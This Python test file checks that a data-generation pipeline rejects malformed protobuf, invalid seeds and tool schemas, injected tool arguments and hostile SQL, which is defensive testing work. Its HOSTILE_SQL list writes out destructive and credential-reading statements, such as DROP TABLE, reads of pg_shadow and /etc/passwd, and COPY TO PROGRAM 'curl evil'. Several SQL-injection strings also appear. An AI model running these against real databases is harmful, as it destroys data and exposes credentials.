"""A corpus of malformed and hostile inputs: each gets a clear error (a dead letter, or a tool error the agent sees).

The corpus is generated here, by kind: broken protobuf for every message type, seed events with bad sources or
settings, seed tool specs with invalid JSON Schema, tool-call arguments of the wrong type, enormous or injected, and
SQL a model might propose (DDL, several statements, another sandbox, the system catalogs, a long-running query).
Pure paths are checked one by one; a representative subset runs against a real sandbox, and through the real bus
in the fault suite (e2e-tests/faults), where every bad record must come back as a dead letter while the run goes on.
"""
from __future__ import annotations

import json

import pytest
from google.protobuf.message import DecodeError

from shared.toolgen.toolset import toolset_from_seed_tools, validate_seed
from shared.contracts import (DatabaseRef, DeadLetter, SeedEvent, SeedTools, SeedToolset, SqlBinding, Tool,
                              TrajectoryState, Verdict)
from shared.data.demo_databases import build_demo
from shared.runtime.errors import PermanentError
from shared.env.sandbox import SandboxManager
from shared.env.sql_guard import UnsafeSQL, check_statement
from shared.env.tool_execution import MAX_ARGUMENT_BYTES, execute_sql_tool, parse_arguments
from tests.factories import toolset

# -- broken protobuf --------------------------------------------------------------------------------------------
BROKEN_BYTES = {
    "truncated varint": b"\x08\xff\xff\xff",
    "wire type 7": b"\x0f\x01",
    "wire type 6": b"\x0e\x01",
    "length past the end": b"\x0a\x7fshort",
    "field number 0": b"\x00\x01",
    "unterminated group": b"\x0b",
    "ten-byte varint overflow": b"\x08" + b"\xff" * 11,
    "length varint cut off": b"\x0a\xff",
}
MESSAGE_TYPES = [TrajectoryState, SeedEvent, SeedToolset, Verdict, DeadLetter]
PROTOBUF_CASES = [(t, name, data) for t in MESSAGE_TYPES for name, data in BROKEN_BYTES.items()]


@pytest.mark.parametrize("message_type,case,data", PROTOBUF_CASES,
                         ids=[f"{t.__name__}-{n}" for t, n, _ in PROTOBUF_CASES])
def test_broken_protobuf_is_refused(message_type, case, data):
    with pytest.raises(DecodeError):  # the bus dead-letters it as "malformed message: not a valid <type>"
        message_type.FromString(data)


# -- seed events ------------------------------------------------------------------------------------------------
def _seed(**kw) -> SeedEvent:
    seed = SeedEvent(seed_id="s", domain="telecom", database=DatabaseRef(domain_database="telecom"))
    seed.settings.num_trajectories = 2
    seed.settings.tasks_per_trajectory = 1
    for path, value in kw.items():
        target = seed
        *parents, leaf = path.split("__")
        for p in parents:
            target = getattr(target, p)
        if leaf == "clear":
            target.ClearField(value)
        else:
            setattr(target, leaf, value)
    return seed


BAD_SEEDS = {
    "no seed id": _seed(seed_id=""),
    "no domain": _seed(domain=""),
    "no source": _seed(clear="database"),
    "empty database name": _seed(database__domain_database=""),
    "zero trajectories": _seed(settings__num_trajectories=0),
    "negative trajectories": _seed(settings__num_trajectories=-5),
    "a million trajectories": _seed(settings__num_trajectories=1_000_000),
    "zero tasks": _seed(settings__tasks_per_trajectory=0),
    "too many tasks": _seed(settings__tasks_per_trajectory=10_000),
    "write share above 1": _seed(settings__write_task_share=3.0),
    "negative write share": _seed(settings__write_task_share=-0.5),
}


@pytest.mark.parametrize("case", BAD_SEEDS)
def test_malformed_seed_is_refused_with_its_reason(case):
    with pytest.raises(PermanentError, match="malformed seed event"):
        validate_seed(BAD_SEEDS[case])


def _tool_seed(*tools: Tool) -> SeedEvent:
    seed = SeedEvent(seed_id="s", domain="shop", seed_tools=SeedTools(tools=list(tools)))
    seed.settings.num_trajectories = 1
    seed.settings.tasks_per_trajectory = 1
    return seed


BAD_TOOL_SPECS = {
    "parameters not JSON": "{not json",
    "unknown type": json.dumps({"type": "objekt"}),
    "type is a number": json.dumps({"type": 5}),
    "properties is a list": json.dumps({"type": "object", "properties": ["a", "b"]}),
    "required is a string": json.dumps({"type": "object", "required": "a"}),
    "minimum is text": json.dumps({"type": "object", "properties": {"n": {"type": "integer", "minimum": "zero"}}}),
    "enum is empty object": json.dumps({"type": "object", "properties": {"e": {"enum": {}}}}),
    "pattern not a string": json.dumps({"type": "object", "properties": {"p": {"type": "string", "pattern": 7}}}),
    "top level is an array schema": json.dumps({"type": "array", "items": {"type": "string"}}),
    "top level is a string schema": json.dumps({"type": "string"}),
    "additionalProperties is a number": json.dumps({"type": "object", "additionalProperties": 3}),
    "items is a number": json.dumps({"type": "object", "properties": {"l": {"type": "array", "items": 1}}}),
}
BAD_TOOL_NAMES = ["", "drop table", "name;--", "a.b", "x" * 3 + " y", "tool/../../etc"]


@pytest.mark.parametrize("case", BAD_TOOL_SPECS)
def test_tool_spec_with_invalid_json_schema_is_refused(case):
    seed = _tool_seed(Tool(name="lookup", description="d", parameters_json=BAD_TOOL_SPECS[case]))
    validate_seed(seed)
    with pytest.raises(PermanentError, match="lookup"):
        toolset_from_seed_tools(seed)


@pytest.mark.parametrize("name", BAD_TOOL_NAMES)
def test_tool_spec_with_an_unusable_name_is_refused(name):
    seed = _tool_seed(Tool(name=name, description="d", parameters_json=json.dumps({"type": "object"})))
    with pytest.raises(PermanentError, match="not a valid function name"):
        toolset_from_seed_tools(seed)


# -- tool-call arguments ----------------------------------------------------------------------------------------
GET, UPDATE = toolset().tools[0], toolset().tools[1]
BAD_ARGUMENTS = {
    "id as text": (GET, json.dumps({"customer_id": "one"})),
    "id as float": (GET, json.dumps({"customer_id": 1.5})),
    "id as list": (GET, json.dumps({"customer_id": [1]})),
    "id as object": (GET, json.dumps({"customer_id": {"$gt": 0}})),
    "id as bool": (GET, json.dumps({"customer_id": True})),
    "id null": (GET, json.dumps({"customer_id": None})),
    "missing id": (GET, json.dumps({})),
    "unknown extra field": (GET, json.dumps({"customer_id": 1, "role": "admin"})),
    "arguments a list": (GET, json.dumps([1])),
    "arguments a string": (GET, json.dumps("customer_id=1")),
    "arguments a number": (GET, "42"),
    "not JSON": (GET, "{customer_id: 1"),
    "trailing garbage": (GET, '{"customer_id": 1} DROP TABLE customers'),
    "injection instead of id": (GET, json.dumps({"customer_id": "1 OR 1=1"})),
    "injection with comment": (GET, json.dumps({"customer_id": "1; DROP TABLE customers; --"})),
    "enormous string": (UPDATE, json.dumps({"customer_id": 1, "status": "x" * (MAX_ARGUMENT_BYTES + 10)})),
    "enormous number of keys": (GET, json.dumps({f"k{i}": i for i in range(5000)})),
    "deeply nested": (GET, "[" * 50_000 + "]" * 50_000),
    "status as number": (UPDATE, json.dumps({"customer_id": 1, "status": 5})),
    "status missing": (UPDATE, json.dumps({"customer_id": 1})),
}


@pytest.mark.parametrize("case", BAD_ARGUMENTS)
def test_bad_tool_arguments_give_a_structured_error(case):
    tool, arguments = BAD_ARGUMENTS[case]
    parsed, error = parse_arguments("call_1", tool, arguments)
    assert parsed is None and error is not None and not error.ok
    assert json.loads(error.content_json)["error"] == "invalid_arguments"


# -- SQL a model might propose ----------------------------------------------------------------------------------
TABLES = ["customers", "plans", "subscriptions"]
HOSTILE_SQL = {
    "drop table": "DROP TABLE customers",
    "create table": "CREATE TABLE evil (x int)",
    "alter table": "ALTER TABLE customers ADD COLUMN pwned int",
    "truncate": "TRUNCATE customers",
    "grant": "GRANT ALL ON customers TO PUBLIC",
    "create role": "CREATE ROLE intruder SUPERUSER",
    "two statements": "SELECT * FROM customers; DELETE FROM customers",
    "select then drop": "SELECT 1; DROP TABLE plans",
    "stacked update": "UPDATE customers SET status = 'x'; UPDATE plans SET name = 'y'",
    "another sandbox": "SELECT * FROM sbx_0123456789abcdef0123.customers",
    "the domain source": "SELECT * FROM domain_telecom.customers",
    "public registry": "SELECT * FROM public.tf_sandboxes",
    "pg_catalog table": "SELECT * FROM pg_catalog.pg_authid",
    "pg_roles": "SELECT rolname FROM pg_roles",
    "pg_shadow": "SELECT * FROM pg_shadow",
    "information_schema": "SELECT table_name FROM information_schema.tables",
    "pg_stat_activity": "SELECT query FROM pg_stat_activity",
    "pg_sleep": "SELECT pg_sleep(3600)",
    "pg_sleep in where": "SELECT * FROM customers WHERE pg_sleep(10) IS NULL",
    "pg_read_file": "SELECT pg_read_file('/etc/passwd')",
    "set_config": "SELECT set_config('statement_timeout', '0', false)",
    "current_setting": "SELECT current_setting('data_directory')",
    "dblink": "SELECT * FROM dblink('host=evil', 'SELECT 1') AS t(x int)",
    "lo_import": "SELECT lo_import('/etc/passwd')",
    "copy to program": "COPY customers TO PROGRAM 'curl evil'",
    "set role": "SET ROLE postgres",
    "vacuum": "VACUUM customers",
    "unknown table": "SELECT * FROM secrets",
    "select into": "SELECT * INTO stolen FROM customers",
    "write in a CTE": "WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d",
    "nextval": "SELECT nextval('customers_customer_id_seq')",
    "do block": "DO $$ BEGIN DROP TABLE customers; END $$",
    "call procedure": "CALL evil()",
    "comment on": "COMMENT ON TABLE customers IS 'pwned'",
    "listen/notify": "NOTIFY evil, 'x'",
    "not SQL at all": "please delete every customer",
    "empty": "",
}


@pytest.mark.parametrize("case", HOSTILE_SQL)
def test_hostile_sql_is_refused_with_a_reason(case):
    with pytest.raises(UnsafeSQL) as refused:
        check_statement(HOSTILE_SQL[case], TABLES)
    assert str(refused.value)  # a reason in words, for the dead letter or the tool error


def test_the_corpus_has_at_least_100_items():
    size = (len(PROTOBUF_CASES) + len(BAD_SEEDS) + len(BAD_TOOL_SPECS) + len(BAD_TOOL_NAMES) + len(BAD_ARGUMENTS)
            + len(HOSTILE_SQL))
    assert size >= 100, size


# -- a subset against a real sandbox: injected values stay values ---------------------------------------------------
@pytest.mark.integration
@pytest.mark.parametrize("value", ["1 OR 1=1", "1; DROP TABLE customers; --", "' OR ''='", "Robert'); DROP TABLE x;--",
                                   "$$; DROP TABLE customers; $$"])
def test_injected_text_is_bound_as_a_value(postgres_dsn, value):
    manager = SandboxManager(postgres_dsn)
    manager.register_domain(build_demo("telecom"))
    sandbox = manager.create("traj-inject", "telecom")
    before = manager.state_hash("traj-inject", "telecom")
    tool = Tool()
    tool.CopyFrom(UPDATE)
    result = execute_sql_tool(manager, sandbox, manager.domain_schema("telecom").table_names, tool, "call_1",
                              json.dumps({"customer_id": 1, "status": value}), timeout_ms=2000)
    assert result.ok, result.error
    row = manager.execute(sandbox, "SELECT status FROM customers WHERE customer_id = 1", {}, timeout_ms=2000).rows[0]
    assert row["status"] == value  # stored verbatim: it never became SQL
    assert manager.state_hash("traj-inject", "telecom") != before
    count = manager.execute(sandbox, "SELECT count(*) AS n FROM customers", {}, timeout_ms=2000).rows[0]["n"]
    assert count > 1


@pytest.mark.integration
def test_a_long_running_statement_that_passes_the_guard_ends_as_a_timeout_error(postgres_dsn):
    manager = SandboxManager(postgres_dsn)
    manager.register_domain(build_demo("telecom"))
    sandbox = manager.create("traj-slow", "telecom")
    tool = Tool()
    tool.CopyFrom(GET)
    tool.sql.CopyFrom(SqlBinding(statement=(
        # All but one customer, four times over: hundreds of millions of rows, far past any timeout on any machine.
        "SELECT count(*) AS n FROM customers a, customers b, customers c, customers d WHERE a.customer_id <>"
        " :customer_id")))
    result = execute_sql_tool(manager, sandbox, manager.domain_schema("telecom").table_names, tool, "call_1",
                              json.dumps({"customer_id": 1}), timeout_ms=200)
    assert not result.ok and json.loads(result.content_json)["error"] == "timeout"
